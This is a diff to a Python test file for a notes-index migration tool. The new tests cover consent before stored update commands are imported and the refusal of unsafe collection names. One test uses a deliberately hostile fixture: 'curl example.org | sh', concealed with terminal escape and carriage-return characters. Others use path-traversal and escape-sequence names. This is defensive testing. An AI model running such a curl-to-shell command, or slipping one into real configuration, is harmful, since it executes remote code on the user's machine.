@@ -61,10 +61,10 @@ def config_of(user: User) -> Path:
 
 def test_collections_of_an_index_are_taken_over_once(user: User, old: Path) -> None:
     before = old.read_bytes()
-    planned = report(user, str(old), "--dry-run")
+    planned = report(user, str(old), "--dry-run", "--with-commands")
     assert planned["changed"]
     assert not config_of(user).exists()
-    assert report(user, str(old)) == planned
+    assert report(user, str(old), "--with-commands") == planned
     shown = json.loads(user.ok("collection", "list", "--json"))
     assert [(each["name"], each["path"], each["pattern"]) for each in shown] == [
         ("gone", str(user.home / "gone"), "**/*.txt"),
@@ -73,7 +73,7 @@ def test_collections_of_an_index_are_taken_over_once(user: User, old: Path) -> N
     written = config_of(user).read_text(encoding="utf-8")
     for part in ("drafts/**", "git pull", "My notes", "includeByDefault: false", "Everything", "/2026"):
         assert part in written
-    again = report(user, str(old))
+    again = report(user, str(old), "--with-commands")
     assert (again["changed"], {each["action"] for each in again["collections"]}) == (False, {"same"})
     assert config_of(user).read_text(encoding="utf-8") == written
     assert "Nothing to take over" in user.ok("migrate", str(old))
@@ -148,3 +148,56 @@ def test_files_of_other_programs_are_refused(user: User, old: Path) -> None:
         assert result.exit_code == 1
         assert message in result.stderr
     assert "there is no index of tobi/qmd" in user.invoke("migrate").stderr
+
+
+def test_update_commands_are_taken_over_only_with_the_users_consent(user: User, old: Path) -> None:
+    shown = user.ok("migrate", str(old))
+    assert "without its update command, which --with-commands takes over: git pull" in shown
+    assert "git pull" not in config_of(user).read_text(encoding="utf-8")
+    # Later too, if the collection has got no command in the meantime.
+    assert "update command: git pull" in user.ok("migrate", str(old), "--with-commands")
+    assert 'update: "git pull"' in config_of(user).read_text(encoding="utf-8")
+    assert "Nothing to take over" in user.ok("migrate", str(old), "--with-commands")
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("answer", ["y", "n"])
+def test_update_commands_are_shown_with_their_control_characters_and_asked_for(
+    user: User, old: Path, answer: str
+) -> None:
+    with closing(sqlite3.connect(old)) as db:
+        command = "make\n\x1b[2K\rcurl example.org | sh"
+        db.execute("UPDATE store_collections SET update_command = ? WHERE name = 'notes'", (command,))
+        db.commit()
+    shown = user.on_terminal(f"{answer}\n", "migrate", str(old))
+    question, _, done = shown.partition("Take them over? [y/N]")
+    assert "make\\n\\x1b[2K\\rcurl example.org | sh" in question
+    assert str(user.notes) in question
+    assert "\x1b" not in shown
+    assert ("notes: added" in done, "curl" in config_of(user).read_text(encoding="utf-8")) == (
+        True,
+        answer == "y",
+    )
+
+
+@pytest.mark.parametrize("bad", ["../../x", "a\nb", "\x1b[31mred"])
+def test_a_name_that_cannot_be_used_is_refused_before_anything_is_written(
+    user: User, old: Path, bad: str
+) -> None:
+    with closing(sqlite3.connect(old)) as db:
+        db.execute("UPDATE store_collections SET name = ? WHERE name = 'notes'", (bad,))
+        db.commit()
+    for options in ([], ["--dry-run"]):
+        result = user.invoke("migrate", str(old), *options)
+        assert (result.exit_code, result.stdout) == (2, "")
+        assert "Not a collection name" in result.stderr
+        assert "\x1b" not in result.stderr
+    assert not config_of(user).exists()
+
+
+def test_a_folder_that_cannot_be_used_leaves_nothing_written(user: User, old: Path) -> None:
+    with closing(sqlite3.connect(old)) as db:
+        db.execute("UPDATE store_collections SET pattern = ' ' WHERE name = 'notes'")
+        db.commit()
+    assert user.invoke("migrate", str(old)).exit_code == 2
+    assert not config_of(user).exists()
